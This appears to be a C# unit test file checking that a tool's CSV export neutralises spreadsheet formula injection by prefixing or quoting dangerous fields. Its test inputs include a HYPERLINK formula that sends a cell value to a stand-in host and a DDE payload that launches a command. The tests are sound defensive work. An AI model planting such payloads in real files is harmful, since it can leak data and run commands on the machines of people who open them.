using Segmentation.Cli;

namespace Segmentation.Server.Tests;

/// <summary>segctl's CSV exports: fields a spreadsheet would run as formulas are written as text.</summary>
public class CliCsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://x.example/?\"&B2,\"open\")", "\"'=HYPERLINK(\"\"https://x.example/?\"\"&B2,\"\"open\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd", "'-2+3+cmd")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\tstarts with a tab", "'\tstarts with a tab")]
    [InlineData("a\rb", "\"a\rb\"")]
    public void A_field_a_spreadsheet_would_run_is_written_as_text(string field, string written) =>
        Assert.Equal(written, CsvText.Quote(field));

    [Theory]
    [InlineData("-0.25")]
    [InlineData("-12")]
    [InlineData("+3")]
    [InlineData("summer_offer")]
    [InlineData("")]
    public void Numbers_and_plain_text_are_written_as_they_are(string field) =>
        Assert.Equal(field, CsvText.Quote(field));

    [Fact]
    public void A_comma_or_quote_is_quoted_as_before() =>
        Assert.Equal("\"a,\"\"b\"\"\"", CsvText.Quote("a,\"b\""));
}
